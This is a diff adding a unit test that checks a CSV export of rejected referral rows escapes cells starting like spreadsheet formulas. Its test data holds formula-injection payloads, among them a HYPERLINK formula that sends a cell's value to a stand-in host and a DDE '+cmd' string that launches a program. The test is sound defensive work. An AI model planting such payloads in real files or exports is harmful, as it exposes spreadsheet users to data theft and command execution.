@@ -184,6 +184,29 @@ describe('rejected rows as CSV', () => {
   });
 });
 
+describe('rejected rows CSV', () => {
+  it('neutralises every cell that begins like a formula', async () => {
+    const rows =
+      'R1,C1,2024-01-05,police,maybe,,"=HYPERLINK(""http://x.example/?""&A1,""click"")",\n' +
+      "R2,C2,+cmd|' /C calc'!A0,police,yes,,,\n" +
+      'R3,C3,2024-01-05,@SUM(1+1),yes,,,\n' +
+      'R4,C4,-2,police,yes,,,\n';
+    await loadExtract(engine, [file('referrals.csv', RH + rows)], TODAY);
+    const csv = await rejectedRowsCsv(engine, 'referrals');
+    const lines = csv.split('\r\n');
+    expect(lines[1]).toBe(
+      `referrals.csv,2,R1,C1,2024-01-05,police,maybe,,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",,"neglect_concern: not true/false, yes/no, y/n or 1/0"`
+    );
+    expect(lines[2]).toBe(
+      `referrals.csv,3,R2,C2,'+cmd|' /C calc'!A0,police,yes,,,,referral_date: not a date: use YYYY-MM-DD or DD/MM/YYYY`
+    );
+    expect(lines[3]).toMatch(/^referrals\.csv,4,R3,C3,2024-01-05,'@SUM\(1\+1\),yes,,,,"referrer_agency: not one of/);
+    expect(lines[4]).toBe(`referrals.csv,5,R4,C4,'-2,police,yes,,,,referral_date: not a date: use YYYY-MM-DD or DD/MM/YYYY`);
+    // no cell of any line starts a formula
+    for (const line of lines) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r-]/);
+  });
+});
+
 describe('progress', () => {
   it('reports each file through its stages', async () => {
     const seen: string[] = [];
